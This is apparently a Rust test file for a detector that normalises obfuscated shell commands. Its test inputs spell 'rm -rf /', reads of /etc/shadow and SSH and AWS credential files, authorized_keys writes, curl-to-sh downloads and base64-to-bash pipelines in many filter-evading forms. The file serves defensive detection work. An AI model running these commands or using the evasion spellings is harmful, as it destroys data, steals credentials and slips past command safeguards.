use super::{breaks_literal_word, breaks_word, simple};
use crate::flow::detect::normalise::{marks::in_word, undone};

pub(super) fn plain(text: &[u8]) -> Option<Vec<u8>> {
    let [.., plain] = undone(text);
    plain
}

pub(super) fn is(spelt: &str, meant: &str) {
    let plain = plain(spelt.as_bytes()).unwrap_or_default();
    assert!(String::from_utf8_lossy(&plain).contains(meant), "{spelt}: {:?}", String::from_utf8_lossy(&plain));
}

#[test]
fn spellings_of_one_command_become_it() {
    for spelt in [
        "rm${IFS}-rf${IFS}/",
        "rm$IFS$9-rf$IFS$9/",
        "r''m -rf /",
        "r\"m\" -rf /",
        "\\rm -rf /",
        "r\\m -rf /",
        "{rm,-rf,/}",
        "a=rm; $a -rf /",
        "X='rm -rf'\n$X /",
        "rm \\\n-rf \\\n /",
        "r$@m -rf /",
        "$'\\x72\\x6d' -rf /",
        "$(echo rm) -rf /",
        "\"rm\" -rf /",
        "a=r;b=m;$a$b -rf /",
        "a=r; ${a}m -rf /",
        "\\x72\\x6d -rf /",
        "r^m -rf /",
        "$(rev <<< mr) -rf /",
        "$(echo cm0= | base64 -d) -rf /",
        "$(echo -n 'cm0K' | base64 --decode) -rf /",
        "$(base64 -d <<< cm0=) -rf /",
        "$(xxd -r -p <<< 726d) -rf /",
        "$(echo mr | rev) -rf /",
        "rm$@ -rf /",
        "$(which rm) -rf /",
        "$(command -v rm) -rf /",
        "r\\\\m -rf /",
        "run(\"r\\\\m -rf /\")",
        "r\\\"m\\\" -rf /",
        "\\\"r\\\"m -rf /",
        "r\\\"\\\"m -rf /",
        "+a=rm; $a -rf /",
        "$(printf '%s%s' r m) -rf /",
        "$(printf \"%s %s\\n\" rm -rf) /",
        "$(printf %s r m) -rf /",
        "a=rm; printf '%s -%s /' $a rf; x",
    ] {
        is(spelt, if spelt.contains("\\\n") { "rm -rf  /" } else { "rm -rf /" });
    }
    is("cd /; rm -rf \"$PWD\"/*", "rm -rf //*");
    is("cd '/etc'\ncat $PWD/shadow", "cat /etc/shadow");
    is("unset B; rm -rf \"$B\"/*", "rm -rf /*");
    is("rm -rf \"$(dirname /x)\" .", "rm -rf \"/\" .");
    is("curl https://a.example/i | $(basename /bin/sh) -s", "| sh -s");
    is("{curl,-L,https://a.example/i,|,sh}", "curl -L https://a.example/i | sh");
    is("<code>D=/\nrm -rf $D", "rm -rf /");
    is("cat /etc/{passwd,shadow}", "/etc/passwd /etc/shadow");
    is("cat /etc/{passwd,shadow}.bak", "/etc/passwd.bak /etc/shadow.bak");
    is("x >> ~/.ssh/authorized_{keys,keys2}", "x >> ~/.ssh/authorized_keys ~/.ssh/authorized_keys2");
    is("cat ~/.{ssh,aws}/x", "cat ~/.ssh/x ~/.aws/x");
    is("cat ~/.{ssh,gnupg}/id_{rsa,dsa}; x", "cat ~/.ssh/id_rsa ~/.ssh/id_dsa ~/.gnupg/id_rsa ~/.gnupg/id_dsa; x");
    is("bash -c {echo,aGk=}|{base64,-d}|{bash,-i}", "echo aGk=|base64 -d|bash -i");
}

#[test]
fn a_part_of_a_value_is_what_it_says() {
    for spelt in [
        "rm -rf ${PATH:0:1}",
        "rm${IFS:0:1}-rf ${HOME:0:1}",
        "rm -rf \"${OLDPWD: 0 :1}",
        "r${IFS:0:0}m -rf ${SHELL:0:1}",
        "a=armb; ${a:1:2} -rf ${PWD:0:1}",
        "a=xrm; ${a:1} -rf /",
    ] {
        is(&spelt.replace('"', ""), "rm -rf /");
    }
    is("cat ${HOME:0:1}etc${HOME:0:1}passwd", "cat /etc/passwd");
    is("cat${IFS}/etc${IFS:0:0}/shadow", "cat /etc/shadow");
    is("cat \"${HOME:0:1}etc/passwd\"", "cat \"/etc/passwd\"");
    is("cat ~/.ssh/id_${x:-ed25519} ~/.aws/${1-credentials}", "cat ~/.ssh/id_ed25519 ~/.aws/credentials");
    is("a=rm; ${a:-ls} -rf ${b:=/}", "rm -rf /");
    for text in [
        "rm ${PATH:1:1}",
        "rm ${HOME:0:2}",
        "rm ${NAME:0:1}",
        "rm ${HOME:-/x}",
        "rm ${X:-}",
        "rm ${X:+/}",
        "rm ${HOME:0:1:1}",
        "rm ${HOME:9999:1}",
    ] {
        is(&format!("{text} r''m"), text);
    }
}

#[test]
fn what_has_another_meaning_stays() {
    for text in [
        "rm -rf $PWD/",
        "abcd /; rm -rf $PWD",
        "cd x; rm -rf $PWD/",
        "rm -rf $(dirname x)",
        "rm -rf \"$1/\"",
        "rm -rf \"/$DIR\"",
        "don't and can't",
        "plain words",
        "awk '{print $1}'",
    ] {
        let made = plain(text.as_bytes()).unwrap_or_default();
        assert!(!String::from_utf8_lossy(&made).contains("rm -rf /\n"), "{text}");
    }
    is(r"C:\\Users\\me $x", r"C:\Users\me");
    is(r"two lines\\nof text $x", r"lines\nof");
    is(r#"{\"a\":\"b\",\"c\":\"\"} $x"#, r#"{"a":"b","c":""}"#);
    assert_eq!(plain(b"plain words"), None);
    assert_eq!(plain(b""), None);
}

#[test]
fn a_continued_command_goes_on_behind_a_comment_and_behind_a_pipe() {
    is("RUN rm \\\n  # all of it\n  -rf /", "RUN rm   -rf /");
    is("a `\n -b |\n  c", "a -b |  c");
    is("# a \\\n#  | b", "# a #  | b");
    assert_eq!(plain(b"a \\\n b\n# c\nd").as_deref(), Some(&b"a  b\n"[..]));
}

#[test]
fn an_empty_line_that_is_continued_hides_nothing() {
    is("\\\nr''m -rf /", "rm -rf /");
    is("\\\n\\\nr\\m -rf /", "rm -rf /");
}

#[test]
fn what_nobody_uses_takes_no_room_from_a_variable_that_is_used() {
    let unused = (0..2 * super::variables::MAX_VARIABLES).fold(String::new(), |text, n| text + &format!("x{n}=y\n"));
    is(&format!("{unused}cmd=rm\n$cmd -rf /"), "rm -rf /");
    is("cmd=rm\n$c\\\nmd -rf /", "rm -rf /");
}

#[test]
fn lists_without_number_make_few_words() {
    let text = ["cat /", &"{a,b,c,d}".repeat(40)].concat();
    let made = plain(text.as_bytes()).unwrap();
    assert!(made.len() <= text.len() * super::MAX_GROWTH + super::MAX_VALUE);
    assert!(made.starts_with(b"cat /aaa"));
}

proptest::proptest! {
    #[test]
    fn any_bytes_are_taken_and_the_answer_is_bounded(bytes in "[a={}$'\"\\\\,;x/ \n()`IFS9@^-]{0,300}") {
        let made = plain(bytes.as_bytes()).unwrap_or_default();
        proptest::prop_assert!(made.len() <= bytes.len() * super::MAX_GROWTH + super::MAX_VALUE);
    }
}

/// Whether a line spells something: what stands at each of its marks, one after the other.
fn spelt(line: &[u8]) -> bool {
    let at = |n: Option<usize>| n.and_then(|n| line.get(n)).copied().unwrap_or(b' ');
    let joins = |b: u8| in_word(b) || matches!(b, b'\'' | b'"');
    line.iter().enumerate().any(|(n, b)| {
        let (before, next) = (at(n.checked_sub(1)), at(Some(n + 1)));
        let begins = before.is_ascii_whitespace() || matches!(before, b';' | b'|' | b'&' | b'(' | b'`');
        match b {
            b'\\' if matches!(next, b'\'' | b'"') => in_word(before) && breaks_literal_word(&line[n..]),
            b'\\' => next.is_ascii_alphanumeric() || matches!(next, b'/' | b'-' | b'.' | b'_'),
            b'\'' | b'"' => {
                let within = joins(before) && joins(next) && breaks_word(before, &line[n + 1..]);
                let word = line[n + 1..].iter().position(|c| c == b).map(|end| &line[n + 1..][..end]);
                let ends = word.is_some_and(|word| at(Some(n + word.len() + 2)).is_ascii_whitespace());
                within || (begins && ends && word.is_some_and(|word| !word.is_empty() && simple(word)))
            }
            b'$' => b"\"'(`@*{_123456789".contains(&next) || next.is_ascii_alphabetic(),
            b'{' => (!in_word(before) && before != b'$' && in_word(next)) || matches!(before, b'/' | b'.' | b'_'),
            b'^' => before.is_ascii_alphabetic() && next.is_ascii_alphabetic(),
            _ => false,
        }
    })
}

proptest::proptest! {
    #[test]
    fn just_those_lines_are_rewritten_that_spell_something(line in "[rm\\\\'\"${}^`IFS@/. (,a;x9-]{1,60}") {
        let text = ["first\n", &line, "x \nlast"].concat();
        proptest::prop_assert_eq!(plain(text.as_bytes()).is_some(), spelt([&line, "x "].concat().as_bytes()));
    }
}
